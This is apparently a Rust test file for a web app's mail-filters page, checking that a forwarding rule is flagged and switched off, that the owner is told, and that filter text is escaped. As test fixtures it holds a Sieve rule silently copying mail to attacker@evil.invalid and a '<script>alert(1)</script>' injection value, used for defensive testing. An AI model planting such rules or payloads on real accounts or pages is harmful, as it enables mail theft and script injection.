//! Mail filters.

use super::signed_in;
use async_trait::async_trait;
use counterfoil_service::{MailFilter, MailSystem, MailSystemError};
use counterfoil_store::driver::Engine;
use counterfoil_testkit::app::TestApp;
use std::sync::{Arc, Mutex};

/// Filters as the mail software keeps them; gone with it when there are none.
struct Filters(Mutex<Option<Vec<MailFilter>>>);

impl Filters {
    fn of(script: &str) -> Arc<Self> {
        let filter = |name: &str, active, script: &str| MailFilter {
            name: name.into(),
            active,
            script: script.into(),
        };
        Arc::new(Self(Mutex::new(Some(vec![
            filter("evil", true, script),
            filter("holiday", false, "vacation \"I am away\";"),
        ]))))
    }

    fn stop(&self) {
        *self.0.lock().unwrap() = None;
    }
}

#[async_trait]
impl MailSystem for Filters {
    async fn cut_off(&self, _login: &str) -> Result<(), MailSystemError> {
        Ok(())
    }

    async fn filters(&self, login: &str) -> Result<Vec<MailFilter>, MailSystemError> {
        assert_eq!(login, "owner1@mail.example");
        let filters = self.0.lock().unwrap().clone();
        filters.ok_or(MailSystemError::Unreachable)
    }

    async fn switch_filter_off(&self, login: &str) -> Result<(), MailSystemError> {
        assert_eq!(login, "owner1@mail.example");
        let mut filters = self.0.lock().unwrap();
        let filters = filters.as_mut().ok_or(MailSystemError::Unreachable)?;
        for filter in filters {
            filter.active = false;
        }
        Ok(())
    }
}

async fn app(filters: &Arc<Filters>) -> TestApp {
    let filters = Arc::clone(filters);
    TestApp::on(Engine::Sqlite)
        .service(|service| service.mail_system(filters))
        .await
}

#[tokio::test]
async fn a_forwarding_rule_is_shown_switched_off_and_told() {
    let filters = Filters::of("redirect :copy \"attacker@evil.invalid\";");
    let app = app(&filters).await;
    let owner = app.enrolled_owner().await;
    let mut browser = signed_in(&app, 1, &owner).await;
    let page = browser.get("/mail-filters").await;
    page.must_say("Sends a copy of your mail to attacker@evil.invalid");
    page.must_say("If you didn't make it, switch it off now");
    page.must_say("holiday");
    let before = page.clone();
    let page = browser.submit_to(&page, "/mail-filters", &[]).await;
    page.must_say("“evil” is switched off. It is not deleted");
    page.must_say("Sends a copy of your mail to attacker@evil.invalid");
    assert!(!page.says("Switch it off"), "{page:?}");
    assert!(!page.says("If you didn't make it"), "{page:?}");
    let page = browser.submit_to(&before, "/mail-filters", &[]).await;
    page.must_say("No filter was running");

    let mails = app.deliver().await;
    let told: Vec<_> = mails
        .iter()
        .filter(|mail| mail.subject.contains("mail filter was switched off"))
        .collect();
    assert_eq!(told.len(), 2, "the mailbox and the outside address, once");
    browser
        .get("/activity")
        .await
        .must_say("The mail filter “evil” was switched off");
}

#[tokio::test]
async fn mail_software_that_does_not_answer_is_said_kindly_and_nothing_is_told() {
    let filters = Filters::of("discard;");
    let app = app(&filters).await;
    let owner = app.enrolled_owner().await;
    let mut browser = signed_in(&app, 1, &owner).await;
    let page = browser.get("/mail-filters").await;
    app.deliver().await;
    filters.stop();
    let page = browser.submit_to(&page, "/mail-filters", &[]).await;
    page.must_say("Nothing has changed. Try again in a minute.");
    browser.get("/mail-filters").await.must_say("Try again");
    assert!(app.deliver().await.is_empty());
}

#[tokio::test]
async fn without_mail_software_there_is_nothing_to_show() {
    let app = super::app().await;
    let owner = app.enrolled_owner().await;
    let mut browser = signed_in(&app, 1, &owner).await;
    browser
        .get("/mail-filters")
        .await
        .must_say("Mail filters are not shown here");
    app.deliver().await;
}

#[tokio::test]
async fn what_a_filter_is_called_or_says_stays_text() {
    let filters = Filters::of("redirect \"<script>alert(1)</script>@evil.invalid\";");
    let app = app(&filters).await;
    let owner = app.enrolled_owner().await;
    let mut browser = signed_in(&app, 1, &owner).await;
    let page = browser.get("/mail-filters").await;
    assert!(!page.html().contains("<script>alert"), "{page:?}");
    app.deliver().await;
}

#[tokio::test]
async fn after_a_password_reset_the_owner_is_sent_to_look() {
    let filters = Filters::of("keep;");
    let app = app(&filters).await;
    let (owner, sheet) = app.with_sheet().await;
    let mut browser = app.browser(1);
    let page = browser.get("/forgotten").await;
    let known = [("address", &*owner.address), ("code", sheet.code(3))];
    let page = browser.submit(&page, &known).await;
    let digits = app.next_digits(&owner);
    let page = browser.submit(&page, &[("digits", &digits)]).await;
    let new = [("password", "seventeen blue lanterns")];
    let page = browser.submit(&page, &new).await;
    page.must_say("Then look at “Mail filters”");
    app.deliver().await;
}
